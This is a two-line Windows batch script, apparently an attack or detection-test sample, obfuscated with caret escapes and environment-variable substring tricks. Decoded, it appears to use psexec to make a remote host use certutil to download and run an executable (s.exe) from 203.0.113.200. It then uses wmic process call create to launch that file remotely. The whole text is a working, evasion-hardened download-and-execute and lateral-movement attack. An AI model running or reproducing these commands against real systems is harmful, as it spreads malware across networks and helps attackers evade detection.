REM run 3009 v2
p%COMSPEC:~-18,1%%PUBLIC:~5,1%%COMSPEC:~-2,1%%COMSPEC:~26,1%c.e%comspec:~25,1%%COMSPEC:~-12,1% \\^20^3.^0.^1^1^3.20^0 -^ac^c^e^pt^e^ul^a -^s -d cmd /c "certutil -urlcache -f http://203.0.113.200/s.exe C:\s.exe && C:\s.exe"
%comspec:~-19,1%m%comspec:~4,1%^c /^node:2^03.0.113.^20^0 ^pro^ce^ss call c^re^a^t^e "cmd /c C:\s.exe"
